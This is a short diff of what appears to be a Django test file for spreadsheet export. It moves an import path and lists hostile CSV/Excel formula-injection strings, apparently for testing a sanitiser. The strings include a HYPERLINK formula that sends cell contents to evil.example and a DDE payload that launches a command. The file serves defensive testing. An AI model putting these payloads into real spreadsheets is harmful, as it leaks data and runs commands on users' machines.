@@ -14,7 +14,7 @@ from django.test import Client
 from renshe.documents.excel import safe
 from renshe.planner.core import batch
 from renshe.platform.accounts.models import Organisation
-from renshe.platform.core.tables import Table, xlsx_bytes
+from renshe.platform.web.tables import Table, xlsx_bytes
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]
